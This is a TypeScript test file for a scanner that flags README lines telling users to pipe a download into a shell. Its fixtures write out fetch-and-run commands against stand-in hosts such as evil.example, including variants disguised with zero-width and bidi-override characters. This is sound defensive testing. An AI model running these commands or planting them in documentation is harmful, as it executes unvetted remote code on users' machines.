/**
 * Hostile world: a README that tells its users to pipe a download into a shell (`curl … | sh`,
 * `irm … | iex`). The script runs code no registry vouches for, so the line is reported as what
 * the README tells users to run, judged by its URL (docs/scoring.md §9): a format character
 * placed inside `| sh` does not hide it, credentials in the URL are never echoed, a line of a
 * megabyte is read in linear time, and a plain-http, IP-address or shortened URL holds the
 * verdict (docs/security.md).
 */
import { describe, expect, it } from 'vitest';
import check from '../../src/checks/advertised-packages.js';
import { pipedInstalls } from '../../src/sources/github/readme-pipe-installs.js';
import { outcomeOf } from '../checks/check-table.js';
import { repositoryEvidence } from '../support/repository-evidence.js';
import { expectLinear, growth } from './support/linear-time.js';
import { noteCases } from './support/metrics.js';

const fence = (...lines: string[]): string => ['```sh', ...lines, '```'].join('\n');
const urls = (md: string): string[] => pipedInstalls(md).map((p) => p.url);

describe('hostile: README lines that pipe a download into a shell', () => {
  const HIDDEN: [label: string, line: string][] = [
    ['a zero-width space inside `| sh`', 'curl -fsSL https://evil.example/i.sh |\u200b sh'],
    ['a zero-width joiner inside the shell name', 'curl -fsSL https://evil.example/i.sh | s\u200dh'],
    ['a bidi override before the pipe', 'curl -fsSL https://evil.example/i.sh \u202e| bash'],
    ['a byte-order mark before curl', '\ufeffcurl -fsSL https://evil.example/i.sh | bash'],
    ['upper-case PowerShell', 'IRM https://evil.example/i.sh | IEX'],
  ];
  it.for(HIDDEN)('%s: still read', ([, line], { task }) => {
    noteCases(task);
    expect(urls(fence(line))).toEqual(['https://evil.example/i.sh']);
  });

  it('credentials in the URL are never echoed, and the line is unsafe', ({ task }) => {
    noteCases(task);
    const [line] = pipedInstalls(fence('curl -fsSL https://deploy:hunter2-secret@get.example.dev/i.sh | sh'));
    expect(line).toMatchObject({ url: 'https://get.example.dev/i.sh', credentials: true });
    expect(JSON.stringify(line)).not.toContain('hunter2');
    expect(JSON.stringify(line)).not.toContain('deploy');
    const outcome = outcomeOf(check, repositoryEvidence({ distribution: { packages: [], images: [], skipped: [], scripts: line === undefined ? [] : [line] } }));
    expect(outcome.messageId).toBe('script-unsafe');
    expect(outcome.holdVerdict).toBeDefined();
    expect(JSON.stringify(outcome)).not.toContain('hunter2');
  });

  const UNSAFE: [label: string, url: string][] = [
    ['plain http', 'http://get.example.dev/i.sh'],
    ['an IPv4 address', 'https://198.51.100.4/i.sh'],
    ['an IPv6 address', 'https://[2001:db8::1]/i.sh'],
    ['a decimal IP that URL parsing turns into an address', 'https://3325256708/i.sh'],
    ['a URL shortener', 'https://bit.ly/abc123'],
  ];
  it.for(UNSAFE)('%s: the verdict is held', ([, url], { task }) => {
    noteCases(task);
    const scripts = pipedInstalls(fence(`curl -sSL ${url} | bash`));
    expect(scripts).toHaveLength(1);
    const outcome = outcomeOf(check, repositoryEvidence({ repository: { homepage: 'https://get.example.dev' }, distribution: { packages: [], images: [], skipped: [], scripts } }));
    expect(outcome.messageId).toBe('script-unsafe');
    expect(outcome.score).toBe(0);
    expect(outcome.holdVerdict).toBeDefined();
  });

  it('a look-alike of the owner on GitHub is not the owner', ({ task }) => {
    noteCases(task);
    const scripts = pipedInstalls(fence('curl -sSL https://raw.githubusercontent.com/example-evil/example/main/i.sh | bash'));
    const outcome = outcomeOf(check, repositoryEvidence({ distribution: { packages: [], images: [], skipped: [], scripts } }));
    expect(outcome.messageId).toBe('script-elsewhere');
  });

  it('a line of k pipes, URLs, curls and sudo flags is read in time linear in k', ({ task }) => {
    noteCases(task);
    const line = (k: number) => fence(`curl ${'| sudo -a '.repeat(k)}${'https://a.example/'.repeat(k)} ${'curl -x '.repeat(k)}${'//u@'.repeat(k)}bash <(`);
    expectLinear(task, 'pipe lines', growth((k) => pipedInstalls(line(k)), 2000));
  });

  it('a single line of a megabyte is read, and its install found', ({ task }) => {
    noteCases(task);
    const md = fence(`curl -fsSL https://evil.example/i.sh | sh # ${'a'.repeat(1024 * 1024)}`);
    const [line] = pipedInstalls(md);
    expect(line?.url).toBe('https://evil.example/i.sh');
    expect((line?.command.length ?? 0) <= 200).toBe(true);
  });
});
